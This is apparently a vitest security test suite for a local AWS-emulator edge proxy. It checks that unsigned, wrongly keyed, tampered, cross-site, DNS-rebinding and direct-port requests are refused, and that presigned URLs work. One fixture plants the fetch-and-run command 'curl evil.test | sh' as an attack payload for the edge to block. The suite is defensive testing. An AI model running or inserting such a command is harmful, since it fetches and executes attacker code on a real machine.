import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { DynamoDBClient, UpdateItemCommand } from '@aws-sdk/client-dynamodb';
import { GetObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { SendMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newLocalCredentials } from '#local/edge/local-credentials.ts';
import {
  presignPath,
  rawRequest,
  signHeaders,
  signedRequest,
  type SigningOptions,
} from '../helpers/signed-http.ts';
import { BUCKET, ITEM_KEY, TABLE, startEdgeFixture, type EdgeFixture } from './edge-fixture.ts';

let edge: EdgeFixture;
let before: Awaited<ReturnType<EdgeFixture['snapshot']>>;

beforeAll(async () => {
  edge = await startEdgeFixture();
  before = await edge.snapshot();
});
afterAll(async () => edge?.stop());

/** A DynamoDB UpdateItem that would plant a command for the worker to run. */
const plantCommand = (): string =>
  JSON.stringify({
    TableName: TABLE,
    Key: ITEM_KEY,
    UpdateExpression: 'SET command = :c',
    ExpressionAttributeValues: { ':c': { S: 'curl evil.test | sh' } },
  });

const dynamoRequest = (overrides: Partial<SigningOptions> = {}): SigningOptions => ({
  endpoint: edge.emulators.endpoint,
  credentials: edge.emulators.credentials,
  service: 'dynamodb',
  method: 'POST',
  path: '/',
  headers: {
    'content-type': 'application/x-amz-json-1.0',
    'x-amz-target': 'DynamoDB_20120810.UpdateItem',
  },
  body: plantCommand(),
  ...overrides,
});

const sqsForm = (): string =>
  new URLSearchParams({
    Action: 'SendMessage',
    Version: '2012-11-05',
    QueueUrl: edge.queueUrl,
    MessageBody: 'from a web page',
  }).toString();

/** Nothing an attack tried may have changed: no object, no item change, no message. */
async function expectNothingChanged(): Promise<void> {
  expect(await edge.snapshot()).toEqual(before);
}

describe('the edge refuses requests not made with the local credentials', () => {
  it('refuses unsigned requests to every protocol, naming the cause', async () => {
    const { endpoint } = edge.emulators;
    const put = await rawRequest({ endpoint, method: 'PUT', path: `/${BUCKET}/spec.eml`, body: 'x' });
    expect(put.status).toBe(403);
    expect(put.text).toContain('<Code>AccessDenied</Code>');
    expect(put.text).toContain('not signed');
    const update = await rawRequest({ ...dynamoRequest(), headers: dynamoRequest().headers });
    expect(update.status).toBe(403);
    expect(JSON.parse(update.text)).toMatchObject({ __type: 'MissingAuthenticationTokenException' });
    const send = await rawRequest({
      endpoint,
      method: 'POST',
      path: '/',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: sqsForm(),
    });
    expect(send.status).toBe(403);
    expect(send.text).toContain('<Code>MissingAuthenticationToken</Code>');
    await expectNothingChanged();
  });

  it('refuses SDK clients with another access key, or the right key and another secret', async () => {
    const stranger = newLocalCredentials();
    const config = { endpoint: edge.emulators.endpoint, region: 'us-east-1', maxAttempts: 1 };
    const wrongKey = { ...config, credentials: stranger };
    const wrongSecret = {
      ...config,
      credentials: { ...edge.emulators.credentials, secretAccessKey: stranger.secretAccessKey },
    };
    const put = new PutObjectCommand({ Bucket: BUCKET, Key: 'planted.eml', Body: 'x' });
    const update = new UpdateItemCommand(JSON.parse(plantCommand()) as UpdateItemCommand['input']);
    const send = new SendMessageCommand({ QueueUrl: edge.queueUrl, MessageBody: 'x' });

    await expect(new S3Client({ ...wrongKey, forcePathStyle: true }).send(put)).rejects.toMatchObject({
      name: 'InvalidAccessKeyId',
    });
    await expect(new DynamoDBClient(wrongKey).send(update)).rejects.toMatchObject({
      name: 'UnrecognizedClientException',
    });
    await expect(new SQSClient(wrongKey).send(send)).rejects.toMatchObject({
      name: 'UnrecognizedClientException',
    });
    await expect(new S3Client({ ...wrongSecret, forcePathStyle: true }).send(put)).rejects.toMatchObject({
      name: 'SignatureDoesNotMatch',
    });
    await expect(new DynamoDBClient(wrongSecret).send(update)).rejects.toMatchObject({
      name: 'InvalidSignatureException',
    });
    await expect(new SQSClient(wrongSecret).send(send)).rejects.toMatchObject({
      name: 'InvalidSignatureException',
    });
    await expectNothingChanged();
  });

  it('refuses a signed request whose body, path or signature was changed on the way', async () => {
    const harmless = JSON.stringify({ TableName: TABLE, Key: ITEM_KEY });
    const headers = await signHeaders(
      dynamoRequest({
        body: harmless,
        headers: {
          'content-type': 'application/x-amz-json-1.0',
          'x-amz-target': 'DynamoDB_20120810.GetItem',
        },
      }),
    );
    const swappedBody = await rawRequest({
      ...dynamoRequest(),
      headers: { ...headers, 'x-amz-target': 'DynamoDB_20120810.UpdateItem' },
    });
    expect(swappedBody.status).toBe(400);
    expect(JSON.parse(swappedBody.text)).toMatchObject({ __type: 'InvalidSignatureException' });

    const s3Headers = await signHeaders({
      ...dynamoRequest(),
      headers: {},
      service: 's3',
      method: 'PUT',
      path: `/${BUCKET}/a`,
      body: 'a',
    });
    const otherKey = await rawRequest({
      ...dynamoRequest(),
      method: 'PUT',
      path: `/${BUCKET}/b`,
      headers: s3Headers,
      body: 'a',
    });
    expect(otherKey.status).toBe(403);
    expect(otherKey.text).toContain('<Code>SignatureDoesNotMatch</Code>');

    const flipped = (headers.authorization ?? '').replace(
      /Signature=(.)/,
      (_m, c: string) => `Signature=${c === '0' ? '1' : '0'}`,
    );
    const tampered = await rawRequest({
      ...dynamoRequest(),
      body: harmless,
      headers: { ...headers, authorization: flipped },
    });
    expect(tampered.status).toBe(400);
    expect(JSON.parse(tampered.text)).toMatchObject({ __type: 'InvalidSignatureException' });

    const stale = await signedRequest(dynamoRequest({ signingDate: new Date(Date.now() - 3_600_000) }));
    expect(stale.status).toBe(400);
    expect(stale.text).toContain('15 minutes');
    await expectNothingChanged();
  });

  it('serves only Host names of this machine with its own port (no DNS rebinding)', async () => {
    const port = edge.port;
    for (const host of [
      `evil.test:${port}`,
      `127.0.0.1.evil.test:${port}`,
      `localhost:${port + 1}`,
      '127.0.0.1',
    ]) {
      // Signed over the Host it sends, as a page that rebinds its own name would have to.
      const answer = await signedRequest(dynamoRequest({ host }));
      expect(answer.status, host).toBe(403);
      expect(JSON.parse(answer.text), host).toMatchObject({ __type: 'AccessDeniedException' });
      expect(answer.text).toContain('DNS-rebinding');
    }
    await expectNothingChanged();
    for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`]) {
      const read = await signedRequest(
        dynamoRequest({
          host,
          body: JSON.stringify({ TableName: TABLE, Key: ITEM_KEY }),
          headers: {
            'content-type': 'application/x-amz-json-1.0',
            'x-amz-target': 'DynamoDB_20120810.GetItem',
          },
        }),
      );
      expect(read.status, host).toBe(200);
    }
  });

  it('refuses cross-site form posts to S3 and SQS, signed or not, and grants no CORS', async () => {
    const { endpoint } = edge.emulators;
    const page = { origin: 'http://evil.test', 'sec-fetch-site': 'cross-site' };
    const boundary = '----form';
    const multipart = [
      `--${boundary}\r\nContent-Disposition: form-data; name="key"\r\n\r\nemails/planted\r\n`,
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="x.eml"\r\nContent-Type: message/rfc822\r\n\r\nFrom: scott@example.com\r\n\r\nrun this\r\n`,
      `--${boundary}--\r\n`,
    ].join('');
    const s3Post = await rawRequest({
      endpoint,
      method: 'POST',
      path: `/${BUCKET}`,
      headers: { ...page, 'content-type': `multipart/form-data; boundary=${boundary}` },
      body: multipart,
    });
    expect(s3Post.status).toBe(403);
    expect(s3Post.text).toContain('evil.test');
    const sqsPost = await rawRequest({
      endpoint,
      method: 'POST',
      path: '/',
      headers: { ...page, 'content-type': 'application/x-www-form-urlencoded' },
      body: sqsForm(),
    });
    expect(sqsPost.status).toBe(403);
    expect(sqsPost.text).toContain('<Code>AccessDenied</Code>');
    // Even a valid signature does not make a page's request acceptable.
    const signedFromPage = await signedRequest(
      dynamoRequest({ headers: { ...dynamoRequest().headers, origin: 'http://evil.test' } }),
    );
    expect(signedFromPage.status).toBe(403);
    const sameSiteFetch = await signedRequest(
      dynamoRequest({ headers: { ...dynamoRequest().headers, 'sec-fetch-site': 'same-site' } }),
    );
    expect(sameSiteFetch.status).toBe(403);

    const preflight = await rawRequest({
      endpoint,
      method: 'OPTIONS',
      path: `/${BUCKET}/x`,
      headers: { origin: 'http://evil.test', 'access-control-request-method': 'PUT' },
    });
    expect(preflight.status).toBe(403);
    expect(preflight.text).toContain('CORS');
    expect(Object.keys(preflight.headers).filter((name) => name.startsWith('access-control-'))).toEqual([]);
    await expectNothingChanged();
  });

  it('keeps the emulators behind the edge: their own ports serve nothing', async () => {
    const { s3, dynamodb, sqs } = edge.emulators.endpoints;
    const direct = [
      await rawRequest({ endpoint: s3, method: 'PUT', path: `/${BUCKET}/direct.eml`, body: 'x' }),
      await rawRequest({ ...dynamoRequest(), endpoint: dynamodb, headers: dynamoRequest().headers }),
      await rawRequest({
        endpoint: sqs,
        method: 'POST',
        path: '/',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: sqsForm(),
      }),
      // A request correctly signed for the edge is still not enough.
      await signedRequest(dynamoRequest({ endpoint: dynamodb })),
    ];
    expect(direct.map((answer) => answer.status)).toEqual([403, 403, 403, 403]);
    await expectNothingChanged();
  });
});

describe('presigned URLs', () => {
  it('serves a presigned GET and PUT, and refuses one that was changed or has expired', async () => {
    const { endpoint, credentials } = edge.emulators;
    await edge.s3.send(new PutObjectCommand({ Bucket: BUCKET, Key: 'shared/report.txt', Body: 'report' }));
    const base = { endpoint, credentials, service: 's3', expiresIn: 300 };
    const get = await presignPath({ ...base, method: 'GET', path: `/${BUCKET}/shared/report.txt` });
    expect(await rawRequest({ endpoint, method: 'GET', path: get })).toMatchObject({
      status: 200,
      text: 'report',
    });

    const otherObject = get.replace('report.txt', 'other.txt');
    const changed = await rawRequest({ endpoint, method: 'GET', path: otherObject });
    expect(changed.status).toBe(403);
    expect(changed.text).toContain('<Code>SignatureDoesNotMatch</Code>');

    const expired = await presignPath({
      ...base,
      expiresIn: 60,
      method: 'GET',
      path: `/${BUCKET}/shared/report.txt`,
      signingDate: new Date(Date.now() - 120_000),
    });
    const late = await rawRequest({ endpoint, method: 'GET', path: expired });
    expect(late.status).toBe(403);
    expect(late.text).toContain('expired');

    const put = await presignPath({ ...base, method: 'PUT', path: `/${BUCKET}/shared/uploaded.txt` });
    expect((await rawRequest({ endpoint, method: 'PUT', path: put, body: 'uploaded' })).status).toBe(200);
    const read = await edge.s3.send(new GetObjectCommand({ Bucket: BUCKET, Key: 'shared/uploaded.txt' }));
    expect(await read.Body?.transformToString()).toBe('uploaded');
  });
});

const AWS = '/usr/bin/aws';

describe.skipIf(!existsSync(AWS))('the AWS CLI with the local credentials', () => {
  const aws = async (...args: string[]): Promise<string> => {
    const { stdout } = await promisify(execFile)(AWS, ['--endpoint-url', edge.emulators.endpoint, ...args], {
      env: {
        PATH: process.env.PATH,
        HOME: edge.dataDir,
        AWS_ACCESS_KEY_ID: edge.emulators.credentials.accessKeyId,
        AWS_SECRET_ACCESS_KEY: edge.emulators.credentials.secretAccessKey,
        AWS_DEFAULT_REGION: 'us-east-1',
        AWS_PAGER: '',
      },
    });
    return stdout.trim();
  };

  it(
    'uploads (multipart, aws-chunked) and presigns; the presigned URL serves the object',
    { timeout: 120_000 },
    async () => {
      const file = join(edge.dataDir, 'large.bin');
      const content = Buffer.alloc(12 * 1024 * 1024, 'spec ');
      await writeFile(file, content);
      await aws('s3', 'cp', '--only-show-errors', file, `s3://${BUCKET}/cli/large.bin`);
      const small = join(edge.dataDir, 'small.txt');
      await writeFile(small, 'small');
      await aws('s3', 'cp', '--only-show-errors', small, `s3://${BUCKET}/cli/small.txt`);
      const stored = await edge.s3.send(new GetObjectCommand({ Bucket: BUCKET, Key: 'cli/large.bin' }));
      expect(Buffer.from(await stored.Body!.transformToByteArray()).equals(content)).toBe(true);

      const url = new URL(await aws('s3', 'presign', `s3://${BUCKET}/cli/small.txt`, '--expires-in', '300'));
      const served = await rawRequest({
        endpoint: edge.emulators.endpoint,
        method: 'GET',
        path: url.pathname + url.search,
      });
      expect(served).toMatchObject({ status: 200, text: 'small' });
    },
  );
});
